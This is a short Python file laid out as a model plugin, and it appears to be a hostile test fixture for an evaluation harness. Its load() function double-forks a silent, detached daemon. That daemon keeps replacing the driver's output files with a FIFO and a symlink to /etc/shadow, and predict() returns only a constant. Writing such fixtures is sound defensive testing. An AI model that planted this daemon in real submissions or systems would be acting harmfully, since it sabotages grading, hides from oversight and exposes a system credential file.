"""load() starts a detached daemon that waits for the driver to finish, then replaces its
outputs with a fifo and a symlink to /etc/shadow, again and again."""

import os
import time


def tamper():
    while True:
        if os.path.exists("/output/predictions.csv") or os.path.exists("/output/timings.json"):
            for name, make in (
                ("predictions.csv", lambda path: os.mkfifo(path)),
                ("timings.json", lambda path: os.symlink("/etc/shadow", path)),
            ):
                path = os.path.join("/output", name)
                try:
                    if os.path.lexists(path):
                        os.unlink(path)
                    make(path)
                except OSError:
                    pass
        time.sleep(0.0005)


def load(model_dir):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open("/dev/null", os.O_RDWR)
            for descriptor in (0, 1, 2):
                os.dup2(devnull, descriptor)
            tamper()
        os._exit(0)
    return 0.5


def predict(model, frame):
    return [model] * len(frame)
